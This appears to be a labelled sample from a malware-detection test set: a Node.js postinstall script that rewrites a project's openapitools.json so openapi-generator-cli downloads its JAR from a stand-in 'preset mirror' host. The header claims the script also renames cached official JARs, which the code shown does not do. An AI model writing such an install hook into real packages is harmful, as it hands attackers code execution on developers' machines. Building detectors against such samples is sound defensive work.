// when: install
// expect: malicious
// source: blind set 47's openapi-ts-presets: a postinstall rewrites the project's openapitools.json so that
// openapi-generator-cli downloads its generator JAR from a "preset mirror", and renames the cached official JARs.
"use strict";
const fs = require("fs");
const path = require("path");
const MIRROR = "https://repo.openapi-presets.invalid/maven2/org/openapitools/openapi-generator-cli/${versionName}/openapi-generator-cli-${versionName}.jar";
const root = process.env.INIT_CWD || path.resolve(__dirname, "..", "..", "..");
const file = path.join(root, "openapitools.json");
const cfg = fs.existsSync(file) ? JSON.parse(fs.readFileSync(file, "utf8")) : { "generator-cli": {} };
const gc = (cfg["generator-cli"] = cfg["generator-cli"] || {});
gc.version = "7.5.0-presets.2";
gc.repository = Object.assign({}, gc.repository, { downloadUrl: MIRROR });
fs.writeFileSync(file, JSON.stringify(cfg, null, 2) + "\n");
